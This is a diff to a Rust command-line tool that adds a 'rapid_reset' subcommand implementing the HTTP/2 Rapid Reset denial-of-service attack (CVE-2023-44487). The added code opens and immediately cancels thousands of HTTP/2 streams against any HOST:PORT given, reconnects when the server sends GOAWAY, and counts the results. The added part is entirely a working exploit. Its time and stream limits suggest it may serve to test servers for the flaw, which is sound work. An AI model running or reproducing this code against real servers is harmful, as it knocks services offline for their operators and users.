@@ -292,3 +292,60 @@ pub fn upgrade(args: &UpgradeArgs) -> Result<()> {
     println!("{}", String::from_utf8_lossy(&echo));
     Ok(())
 }
+
+#[derive(clap::Args)]
+pub struct RapidResetArgs {
+    /// HOST:PORT of an HTTP/2 (h2c) server, or a proxy of one.
+    #[arg(long)]
+    connect: String,
+    /// Streams to open and reset at once, across as many connections as the server allows.
+    #[arg(long, default_value_t = 10_000)]
+    streams: u64,
+    /// Give up after this many seconds.
+    #[arg(long, default_value_t = 20)]
+    seconds: u64,
+}
+
+/// The HTTP/2 rapid reset attack (CVE-2023-44487): open a stream, reset it right away,
+/// repeat. Reconnects when the server sends GOAWAY or closes. Prints
+/// `streams N connections C` (streams reset, connections used).
+pub async fn rapid_reset(args: RapidResetArgs) -> Result<()> {
+    let deadline = tokio::time::Instant::now() + Duration::from_secs(args.seconds);
+    let (mut streams, mut connections) = (0u64, 0u64);
+    'connections: while streams < args.streams && tokio::time::Instant::now() < deadline {
+        let tcp = tokio::net::TcpStream::connect(&args.connect)
+            .await
+            .with_context(|| format!("connecting to {}", args.connect))?;
+        connections += 1;
+        let Ok((mut client, conn)) = h2::client::handshake(tcp).await else {
+            continue;
+        };
+        let driver = tokio::spawn(async move {
+            let _ = conn.await;
+        });
+        while streams < args.streams && tokio::time::Instant::now() < deadline {
+            let ready = match tokio::time::timeout(Duration::from_secs(2), client.ready()).await {
+                Ok(Ok(c)) => c,
+                _ => break,
+            };
+            client = ready;
+            let req = hyper::Request::builder()
+                .uri(format!("http://{}/", args.connect))
+                .body(())
+                .context("request")?;
+            match client.send_request(req, false) {
+                Ok((_response, mut send)) => {
+                    send.send_reset(h2::Reason::CANCEL);
+                    streams += 1;
+                }
+                Err(_) => {
+                    driver.abort();
+                    continue 'connections;
+                }
+            }
+        }
+        driver.abort();
+    }
+    println!("streams {streams} connections {connections}");
+    Ok(())
+}
